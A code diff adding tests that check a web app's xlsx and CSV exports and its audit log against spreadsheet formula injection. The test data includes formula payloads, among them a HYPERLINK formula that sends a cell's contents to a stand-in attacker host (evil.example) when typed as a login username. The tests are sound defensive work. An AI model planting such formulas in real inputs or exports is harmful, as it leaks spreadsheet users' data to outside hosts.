@@ -107,3 +107,37 @@ def test_the_page_cache_is_bounded_in_bytes(site: Site) -> None:
     for n in range(1, 40):  # forty distinct, valid pages
         assert admin.get(f"/strategi?min_workers={n}").status_code == 200
     assert 0 < steering.page_bytes <= 2_000_000
+
+
+FORMULAS = ['=HYPERLINK("http://x","y")', "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]
+
+
+def test_text_cells_never_become_formulas_in_downloads() -> None:
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    from jamsos.web.tables import Column, Table
+
+    table = Table("t", "t", [Column("name"), Column("amount", "int")], [{"name": f, "amount": -5} for f in FORMULAS])
+    sheet = load_workbook(BytesIO(table.to_xlsx("id"))).worksheets[0]
+    cells = [row for row in sheet.iter_rows(min_row=2)]
+    # the text as it was (an XML reader reads a bare carriage return as a line feed) ...
+    assert [c[0].value for c in cells] == [f.replace("\r", "\n") for f in FORMULAS]
+    assert {c[0].data_type for c in cells} == {"s"} and all(c[0].quotePrefix for c in cells)  # ... never a formula
+    assert {c[1].value for c in cells} == {-5}  # numbers stay numbers
+    csv_rows = table.to_csv("id").decode("utf-8-sig").splitlines()[1:]
+    assert all(r.startswith(("'", "\"'")) for r in csv_rows)
+
+
+def test_a_formula_typed_as_a_user_name_does_not_reach_the_audit_export(site: Site) -> None:
+    anonymous = TestClient(site.app)
+    token = _csrf(anonymous.get("/masuk").text)
+    typed = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+    assert anonymous.post("/masuk", data={"username": typed, "password": "x", "csrf": token}).status_code == 401
+    admin = site.login("admin")
+    page = admin.get("/admin/audit")
+    assert "HYPERLINK" not in page.text  # an unknown name typed at the login is not written down at all
+    assert "login_failed" in page.text
+    export = admin.get("/admin/audit?format=csv").content.decode("utf-8-sig")
+    assert "HYPERLINK" not in export
